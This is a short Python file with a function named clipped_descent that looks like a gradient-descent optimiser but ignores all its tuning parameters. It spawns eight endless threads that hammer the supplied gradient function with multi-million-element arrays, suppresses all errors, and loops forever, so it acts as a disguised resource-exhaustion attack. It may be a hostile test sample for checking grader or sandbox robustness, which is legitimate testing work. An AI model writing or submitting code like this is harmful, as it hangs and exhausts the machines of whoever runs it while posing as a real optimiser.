"""Call the function that was handed in without end, from many threads and with huge arguments."""

import threading

import numpy as np


def clipped_descent(gradient, start, learning_rate, momentum, max_norm, steps):
    def storm():
        while True:
            try:
                gradient(np.ones(3_000_000))
                gradient(start)
            except Exception:
                pass

    for _ in range(8):
        threading.Thread(target=storm, daemon=True).start()
    while True:
        gradient(start)
